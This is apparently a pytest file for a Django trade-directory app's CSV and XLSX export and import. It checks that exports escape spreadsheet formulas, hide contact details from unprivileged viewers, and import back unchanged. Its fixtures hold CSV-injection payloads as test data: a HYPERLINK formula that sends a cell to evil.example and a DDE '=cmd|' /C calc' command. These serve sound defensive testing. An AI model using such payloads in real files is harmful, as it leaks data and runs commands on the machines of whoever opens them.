import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories.directory import AffiliationFactory, OrganisationFactory, PersonFactory, region
from tradebridge.directory.domain.visibility import visible_organisations, visible_people
from tradebridge.directory.enums import OrganisationKind, Visibility
from tradebridge.directory.interfaces.tabular_columns import ORGANISATION_COLUMNS, PERSON_COLUMNS
from tradebridge.directory.interfaces.tabular_export import (
    export_organisations,
    export_people,
    import_template,
    organisation_row,
    person_row,
)
from tradebridge.directory.interfaces.tabular_import import import_records
from tradebridge.directory.models import Organisation, Person, Sector

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


@pytest.fixture
def dangerous(db, agency):
    return OrganisationFactory(
        name_en=HYPERLINK,
        name_zh="危险公司",
        short_name="@SUM(1+1)",
        description_en="-2+3",
        description_zh="+86 正常文字",
        owner=agency,
    )


def test_csv_export_defuses_formulas_and_keeps_chinese(dangerous):
    rows = csv_rows(export_organisations(Organisation.objects.filter(pk=dangerous.pk), "csv"))

    assert rows[0] == list(ORGANISATION_COLUMNS)
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["name_en"] == "'" + HYPERLINK
    assert values["name_zh"] == "危险公司"
    assert values["short_name"] == "'@SUM(1+1)"
    assert values["description_en"] == "'-2+3"
    assert values["description_zh"] == "'+86 正常文字"


def test_xlsx_export_stores_formulas_as_escaped_text_never_as_formulas(dangerous):
    content = export_organisations(Organisation.objects.filter(pk=dangerous.pk), "xlsx")

    rows = xlsx_rows(content)
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["name_en"] == "'" + HYPERLINK
    assert values["short_name"] == "'@SUM(1+1)"
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0][2]
    # Empty cells come back as inline strings; either way no cell is a formula or a number.
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}


def test_people_export_shows_contact_details_only_to_those_who_may_see_them(
    staff_user, government_viewer, agency
):
    person = PersonFactory(name_en="Ada Chen", email="ada@example.org", phone="+12065550100")
    AffiliationFactory(person=person, organisation=agency, role_en="Trade officer")
    people = Person.objects.filter(pk=person.pk)

    for_staff = csv_rows(export_people(people, "csv", staff_user))
    for_viewer = csv_rows(export_people(people, "csv", government_viewer))

    assert for_staff[0] == for_viewer[0] == list(PERSON_COLUMNS)
    staff_values = dict(zip(for_staff[0], for_staff[1], strict=True))
    viewer_values = dict(zip(for_viewer[0], for_viewer[1], strict=True))
    assert (staff_values["email"], staff_values["phone"]) == ("ada@example.org", "'+12065550100")
    assert (viewer_values["email"], viewer_values["phone"]) == ("", "")
    assert viewer_values["organisation"] == "Agency A"
    assert viewer_values["role_en"] == "Trade officer"


@pytest.mark.parametrize(
    ("kind", "columns"), [("organisations", ORGANISATION_COLUMNS), ("people", PERSON_COLUMNS)]
)
def test_the_import_template_is_just_the_header(kind, columns):
    assert csv_rows(import_template(kind, "csv")) == [list(columns)]
    assert xlsx_rows(import_template(kind, "xlsx")) == [tuple(columns)]


def test_an_unknown_format_is_a_programming_error(dangerous):
    with pytest.raises(ValueError, match="unknown export format"):
        export_organisations(Organisation.objects.all(), "pdf")


def organisation_snapshot(queryset) -> list[list[str]]:
    return sorted(organisation_row(organisation) for organisation in queryset)


def person_snapshot(queryset) -> list[list[str]]:
    return sorted(person_row(person, show_contact=True) for person in queryset)


@pytest.fixture
def agency_records(db, agency):
    """A small tree of organisations and people of ``agency``, with awkward values."""
    parent = OrganisationFactory(
        kind=OrganisationKind.CHAMBER,
        name_en="Pacific Trade Council",
        name_zh="太平洋贸易理事会",
        home_region=region("US-WA"),
        owner=agency,
    )
    child = OrganisationFactory(
        # Sorts before its parent, so the import must write the parent first.
        name_en="Abalone Exporters",
        name_zh="",
        short_name="AE, 鲍鱼",
        description_en="Line one\nline two, with a comma",
        description_zh="中文简介",
        home_region=region("CN-SD"),
        parent=parent,
        website="https://abalone.example.com",
        is_sme=True,
        visibility=Visibility.PRIVATE,
        owner=agency,
    )
    child.sectors.set(Sector.objects.filter(code__in=["meat-seafood", "fruit-vegetables-nuts"]))
    dangerous = OrganisationFactory(name_en=HYPERLINK, name_zh="", owner=agency)
    person = PersonFactory(
        name_en="Ada Chen",
        name_zh="陈艾达",
        title_en="=cmd|' /C calc'!A0",
        email="ada@example.org",
        phone="+8613800138000",
        languages="en,zh",
        timezone="Asia/Shanghai",
        data_protection_region=region("CN"),
        owner=agency,
    )
    AffiliationFactory(person=person, organisation=child, role_en="Director", role_zh="总监")
    PersonFactory(name_en="", name_zh="王伟", owner=agency, visibility=Visibility.PRIVATE)
    return [parent.pk, child.pk, dangerous.pk]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_to_the_same_records(staff_user, agency, agency_records, fmt):
    organisations = visible_organisations(staff_user).filter(owner=agency)
    people = visible_people(staff_user).filter(owner=agency)
    organisations_before = organisation_snapshot(organisations)
    people_before = person_snapshot(people)
    organisation_file = export_organisations(organisations, fmt)
    people_file = export_people(people, fmt, staff_user)
    people.delete()
    organisations.delete()

    imported = import_records(
        staff_user,
        SimpleUploadedFile(f"o.{fmt}", organisation_file),
        "organisations",
        dry_run=False,
    )
    imported_people = import_records(
        staff_user, SimpleUploadedFile(f"p.{fmt}", people_file), "people", dry_run=False
    )

    assert (imported.errors, imported.created) == ([], 3)
    assert (imported_people.errors, imported_people.created) == ([], 2)
    assert organisation_snapshot(organisations) == organisations_before
    assert person_snapshot(people) == people_before


def test_importing_an_unchanged_export_again_updates_without_changing(
    staff_user, agency, agency_records
):
    organisations = visible_organisations(staff_user).filter(owner=agency)
    before = organisation_snapshot(organisations)

    report = import_records(
        staff_user,
        SimpleUploadedFile("o.csv", export_organisations(organisations, "csv")),
        "organisations",
        dry_run=False,
    )

    assert (report.errors, report.created, report.updated) == ([], 0, 3)
    assert organisation_snapshot(organisations) == before
    assert sorted(organisations.values_list("pk", flat=True)) == sorted(agency_records)
